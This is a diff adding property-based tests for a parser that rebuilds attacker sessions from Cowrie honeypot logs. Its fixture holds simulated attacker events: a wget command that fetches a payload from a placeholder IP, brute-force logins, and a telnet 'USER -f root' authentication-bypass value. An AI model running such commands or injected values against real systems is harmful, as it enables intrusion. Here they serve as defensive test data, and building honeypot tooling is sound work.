@@ -3,7 +3,8 @@
 from __future__ import annotations
 
 import json
-from itertools import permutations
+import random
+from itertools import pairwise, permutations
 from typing import Any
 
 import pytest
@@ -41,6 +42,57 @@ def whole(session: str, start: float, commands: int) -> list[bytes]:
         ),
         line(session, "session.closed", start + 10, duration=10.0),
     ]
+
+
+def rich(session: str, start: float) -> list[bytes]:
+    """One session with a fact of every list, and some that are about the one before them."""
+    said = [
+        ("session.connect", {"dst_port": 2222}),
+        ("client.version", {"version": "SSH-2.0-Go"}),
+        ("login.failed", {"username": "admin", "password": "1"}),
+        ("login.failed", {"username": "root", "password": "2"}),
+        ("login.success", {"username": "root", "password": "3"}),
+        ("command.input", {"input": f"wget http://203.0.113.9/{session}"}),
+        ("command.failed", {"input": "wget"}),
+        ("session.file_download", {"url": f"http://203.0.113.9/{session}", "shasum": "ab" * 32}),
+        ("command.input", {"input": "echo 'a"}),
+        ("command.input", {"input": "b'"}),
+        ("direct-tcpip.request", {"dst_ip": "203.0.113.50", "dst_port": 80}),
+        ("direct-tcpip.data", {"dst_ip": "203.0.113.50", "dst_port": 80, "data": "GET /"}),
+        ("direct-tcpip.request", {"dst_ip": "203.0.113.50", "dst_port": 80}),
+        ("session.input", {"realm": "cat", "input": "text"}),
+        ("telnet.exploit_attempt", {"cve": "CVE-2026-24061", "name": "USER", "value": "-f root"}),
+        ("telnet.option", {"option_name": "NAWS"}),
+        ("session.file_upload", {"filename": "sshd", "shasum": "cd" * 32}),
+    ]
+    lines = [line(session, event, start + i, **more) for i, (event, more) in enumerate(said)]
+    return [*lines, line(session, "session.closed", start + len(said), duration=float(len(said)))]
+
+
+def blocks_of(lines: list[bytes], cuts: set[int]) -> list[list[bytes]]:
+    """The lines in pieces that begin at the cuts."""
+    edges = [0, *sorted(cuts), len(lines)]
+    return [lines[a:b] for a, b in pairwise(edges) if a < b]
+
+
+def content(ended: dict[str, Any]) -> dict[str, Any]:
+    """All of an ending but the ids of commands and what tells pieces apart."""
+    plain = {k: v for k, v in ended.items() if k not in ("piece", "torn")}
+    texts = [{k: v for k, v in c.items() if k != "id"} for c in ended["commands"]]
+    joined = [{k: v for k, v in j.items() if k in ("command_text", "ts")} for j in ended.get("joined", [])]
+    return {**plain, "commands": texts, "joined": joined}
+
+
+def endings(lines: list[bytes]) -> dict[str, list[dict[str, Any]]]:
+    """Every ending of every session, in order."""
+    source = CowrieSource(Settings(), KEY)
+    events = source.feed(Line("f", n, 0, data) for n, data in enumerate(lines, 1))
+    events += source.end_all()
+    found: dict[str, list[dict[str, Any]]] = {}
+    for event in events:
+        if event.topic == "attacker.session.ended":
+            found.setdefault(event.payload["session_id"], []).append(event.payload)
+    return found
 
 
 def outcome(lines: list[bytes]) -> dict[str, Any]:
@@ -104,3 +156,49 @@ def test_the_past_is_read_as_the_past_and_ends_no_session_between_its_lines(orde
     events = source.feed(Line("f", n, 0, data) for n, data in enumerate(lines, 1))
     ended = [e.payload["session_id"] for e in events if e.topic == "attacker.session.ended"]
     assert len(ended) == len(set(ended)) == 4, "each once, by its own close line"
+
+
+LOG = [data for i in range(3) for data in rich(f"r{i}", START + i * DAY)]
+RIGHT = endings(LOG)
+
+
+@given(st.sets(st.integers(1, len(LOG) - 1), max_size=6), st.randoms(use_true_random=False))
+def test_any_order_of_blocks_of_lines_gives_the_same_sessions(cuts: set[int], dice: random.Random) -> None:
+    blocks = blocks_of(LOG, cuts)
+    dice.shuffle(blocks)
+    found = endings([data for block in blocks for data in block])
+    assert found.keys() == RIGHT.keys()
+    for ident, ends in found.items():
+        (right,) = RIGHT[ident]
+        assert content(ends[-1]) == content(right)
+        if len(ends) == 1:
+            assert [c["id"] for c in ends[0]["commands"]] == [c["id"] for c in right["commands"]]
+            assert ends[0].get("joined") == right.get("joined")
+
+
+@given(st.permutations(range(len(LOG) // 3)))
+def test_any_order_of_the_lines_of_a_session_gives_the_same_session(order: list[int]) -> None:
+    lines = rich("r0", START)
+    ((ident, ends),) = endings([lines[i] for i in order]).items()
+    assert content(ends[-1]) == content(RIGHT[ident][-1])
+
+
+@given(st.lists(st.integers(0, 2), min_size=1, max_size=4))
+def test_lines_that_come_twice_add_nothing(again: list[int]) -> None:
+    repeated = [data for i in again for data in rich(f"r{i}", START + i * DAY)]
+    assert {k: [content(e) for e in v] for k, v in endings([*LOG, *repeated]).items()} == {
+        k: [content(e) for e in v] for k, v in RIGHT.items()
+    }
+
+
+def test_a_line_after_the_end_is_named_by_itself_and_others_keep_their_names() -> None:
+    lines = rich("r0", START)
+    late = line("r0", "command.input", START + 5.5, input="id")
+    first, last = endings([*lines, late])[next(iter(RIGHT))]
+    ids = {c["command_text"]: c["id"] for c in last["commands"]}
+    assert {c["command_text"]: c["id"] for c in first["commands"]} == {
+        k: v for k, v in ids.items() if k != "id"
+    }
+    assert ids["id"].rpartition("#cmd")[2].startswith("@")
+    other = endings([*lines[:4], *lines[-1:], late])[next(iter(RIGHT))][-1]
+    assert ids["id"] in [c["id"] for c in other["commands"]], "whatever else was known"
